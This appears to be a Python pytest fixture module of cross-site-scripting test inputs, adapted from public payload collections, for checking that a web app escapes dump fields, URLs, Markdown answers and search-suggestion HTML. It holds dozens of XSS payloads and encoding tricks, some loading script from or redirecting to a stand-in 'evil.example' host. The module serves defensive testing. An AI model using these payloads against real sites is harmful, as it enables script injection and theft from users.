"""Our own hostile cases, written from the public collections the security note lists.

Each family says where its shapes come from; the cases are ours (short, one idea each), not copies.
Every case is a (name, value) pair: the name is the test id.

- TEXT: markup in any plain string field of a dump or of a form (titles, snippets, quotes, notes,
  comments, file names, tags). Every one must be shown as text, escaped, never run. TEXT_SHORT
  holds one case of each family, for the extra places beyond the issue's list.
- URLS_NOT_HTTP: source URLs that must never become a link (shown as text with `unsafe_url`).
- URLS_HTTP: real http(s) URLs carrying markup: they may be links, but must stay one attribute.
- MARKDOWN: answer text, which is rendered as Markdown (raw HTML off, images off).
- SUGGESTIONS: Gemini `searchEntryPoint.renderedContent`, served as provided but isolated.
"""

from __future__ import annotations

from typing import Any

import pytest

Case = tuple[str, str]

TEXT: list[Case] = [
    # Script and event-handler injection: OWASP XSS filter-evasion cheat sheet, PayloadsAllTheThings
    # "XSS Injection" (basic payloads, case and tag variations).
    ("script", "<script>alert(1)</script>"),
    ("script-src-mixed-case", "<ScRiPt src=//evil.example/x.js></sCrIpT >"),
    ("img-onerror-breakout", '"><img src=x onerror=alert(1)>'),
    ("details-ontoggle", "<details open ontoggle=alert(1)><body onload=alert(1)>"),
    # Attribute break-outs: OWASP cheat sheet, PayloadsAllTheThings (quotes, backticks for old IE).
    ("attr-double-quote", '" onmouseover="alert(1)" x="'),
    ("attr-single-quote", "' onmouseover='alert(1)' x='><svg/onload=alert(1)>"),
    ("attr-backtick", "` onmouseover=alert(1) x=`"),
    ("attr-autofocus", '"autofocus onfocus=alert(1) x="<input autofocus onfocus=alert(1)>'),
    # javascript:/vbscript:/data: targets with entity encodings: OWASP cheat sheet (decimal and hex
    # without semicolons, an encoded tab inside the scheme), markdown-it xss.txt; frames, objects,
    # formaction, meta refresh and base: PayloadsAllTheThings.
    ("href-entity-tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("href-decimal-no-semicolon", "<a href=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)>x</a>"),
    (
        "href-hex-no-semicolon-svg",
        '<svg><a xlink:href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">',
    ),
    ("vbscript-and-data", '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html,<script>alert(1)</script>">d</a>'),
    ("iframe-object", '<iframe src="javascript:alert(1)"></iframe><object data="javascript:alert(1)">'),
    ("formaction", "<form><button formaction=javascript:alert(1)>x</button></form>"),
    (
        "meta-refresh-base",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="//evil.example/">',
    ),
    # SVG and MathML namespace confusion: DOMPurify expect.mjs, PayloadsAllTheThings.
    ("svg-math-xlink", "<svg onload=alert(1)><math><mi xlink:href=javascript:alert(1)>x</mi></math>"),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    # Mutation XSS: markup that re-parses differently (DOMPurify expect.mjs, bleach tests).
    ("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("style-breakout", '<style><img src="</style><img src=x onerror=alert(1)//">'),
    ("textarea-breakout", '<textarea><img title="</textarea><img src=x onerror=alert(1)>">'),
    ("title-breakout", '<title><img title="</title><img src=x onerror=alert(1)>">'),
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("comment-bang", "<!--><img src=x onerror=alert(1)>--><!-- --!><svg onload=alert(1)> -->"),
    # DOM clobbering with our own ids and names: DOMPurify expect.mjs (id/name clobbering tests).
    ("clobber-source-anchor", '<a href="javascript:alert(1)" id="cv-r0-src-1">clobber</a>'),
    ("clobber-form-attributes", '<form id="login"><input name="attributes"></form>'),
    ("clobber-main-csrf", '<img id="main" name="csrfmiddlewaretoken"><a id="cv-check-form" name="action">'),
    # Invisible characters and bidi overrides: big list of naughty strings (blns.json).
    ("zero-width-script", "\u200b<\u200bscript>alert(1)</script>"),
    ("bom-soft-hyphen", "\ufeff<scr\u00adipt>alert(1)</script> java\u00adscript:alert(1)"),
    ("bidi-override", "\u202eevil.exe\u202c <b>\u2066bold\u2069</b> \u200f"),
    # Text that must stay literally as it is: blns (pre-escaped markup, template syntax, CJK, emoji).
    ("pre-escaped", "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; %3Cscript%3E"),
    ("template-syntax", "{{ 7|add:7 }} {% csrf_token %} ${7*7} #{7*7} <%= 7*7 %>"),
    ("japanese-emoji", "田中さんにあげて下さい <i>𠮷野家</i> 👩‍👩‍👧 ﷽"),
]

# One strong case of each TEXT family, for the places beyond the list (kept quick).
_SHORT = {
    "img-onerror-breakout",
    "attr-double-quote",
    "href-entity-tab",
    "svg-math-xlink",
    "textarea-breakout",
    "clobber-form-attributes",
    "zero-width-script",
    "pre-escaped",
}
TEXT_SHORT: list[Case] = [case for case in TEXT if case[0] in _SHORT]

URLS_NOT_HTTP: list[Case] = [
    # Scheme tricks: OWASP cheat sheet, PayloadsAllTheThings, bleach tests (invisible characters).
    ("javascript", "javascript:alert(1)"),
    ("javascript-mixed-case", "JaVaScRiPt:alert(1)"),
    ("javascript-zero-width", "java\u200bscript:alert(1)"),
    ("javascript-leading-space", " javascript:alert(1)"),
    ("javascript-entity-tab", "jav&#x09;ascript:alert(1)"),
    ("javascript-raw-tab-newline", "java\tscr\nipt:alert(1)"),
    ("javascript-c0-control", "\x01javascript:alert(1)"),
    ("javascript-hex-entity", "&#x6A;avascript:alert(1)"),
    ("data-base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("vbscript", "vbscript:msgbox(1)"),
    # Protocol-relative and backslash hosts: security note (bleach and nh3 keep them), OWASP.
    ("protocol-relative", "//evil.example/path"),
    ("backslash-host", "https:/\\evil.example"),
    ("http-no-host", "https:///evil.example"),
    ("http-soft-hyphen", "https://ok.exa\u00admple/"),
    ("http-bidi", "https://ok.example/\u202egpj.exe"),
]

URLS_HTTP: list[Case] = [
    # Real http(s) URLs that carry markup or quotes: PayloadsAllTheThings, OWASP (attribute break-out).
    ("http-quote-breakout", 'https://ok.example/"><script>alert(1)</script>'),
    ("http-single-quote", "https://ok.example/x?q=' onmouseover='alert(1)"),
    ("http-tag-in-query", "https://ok.example/search?q=<img src=x onerror=alert(1)>"),
    ("http-userinfo", "https://ok.example@evil.example/"),
    ("http-fragment-javascript", "https://ok.example/#javascript:alert(1)"),
]

MARKDOWN: list[Case] = [
    # markdown-it test/fixtures/markdown-it/xss.txt and cujanovic/Markdown-XSS-Payloads.
    ("link-javascript", "[x](javascript:alert(1))"),
    ("link-entity", "[x](&#106;avascript:alert(1))"),
    ("link-entity-colon", "[x](javascript&#58;alert(1))"),
    ("link-escaped-colon", "[x](javascript\\:alert(1))"),
    ("link-data", "[x](data:text/html,<script>alert(1)</script>)"),
    ("link-vbscript-upper", "[x](VBSCRIPT:msgbox(1))"),
    ("link-spaces", "[x]( javascript:alert(1) )"),
    ("link-angle", "[x](<javascript:alert(1)>)"),
    ("link-protocol-relative", "[x](//evil.example)"),
    ("link-relative-backslash", "[x](/\\evil.example) [y](/admin/)"),
    ("link-title-breakout", '[x](https://ok.example/ "a\\" onmouseover=\\"alert(1)")'),
    ("reference-link", "[x][r]\n\n[r]: javascript:alert(1)"),
    ("autolink-javascript", "<javascript:alert(1)>"),
    ("raw-html-link", '<a href="javascript:alert(1)">raw</a>'),
    ("raw-iframe", '<iframe src="https://evil.example"></iframe>'),
    ("raw-details", "<details open ontoggle=alert(1)>"),
    ("raw-html-block", '<div\nonmouseover="alert(1)">block</div>'),
    ("image-pixel", "![pixel](https://tracker.example/p.gif)"),
    ("image-onerror-title", '![x](x "onerror=alert(1)")'),
    ("code-span-script", "`<script>alert(1)</script>`"),
    ("fenced-info-breakout", '```"><script>alert(1)</script>\nx\n```\n'),
    ("link-text-markup", "[<img src=x onerror=alert(1)>](https://ok.example/)"),
    ("zero-width-scheme", "[x](java\u200bscript:alert(1))"),
]

SUGGESTIONS: list[Case] = [
    # What Google's snippet could carry if it were hostile: script, handlers, frames, forms, base.
    ("script", '<a href="https://www.google.com/search?q=x">x</a><script>parent.document.title="ran"</script>'),
    ("handler", "<img src=x onerror=\"top.location='https://evil.example'\"><svg onload=alert(1)>"),
    ("form-base", '<base href="javascript:alert(1)//"><form action="https://evil.example"><input name=q></form>'),
    ("frame", '<iframe srcdoc="<script>alert(1)</script>"></iframe><meta http-equiv=refresh content="0;url=x">'),
]


def params(cases: list[Case]) -> list[Any]:
    """The cases as pytest parameters, each named by its case."""
    return [pytest.param(value, id=name) for name, value in cases]
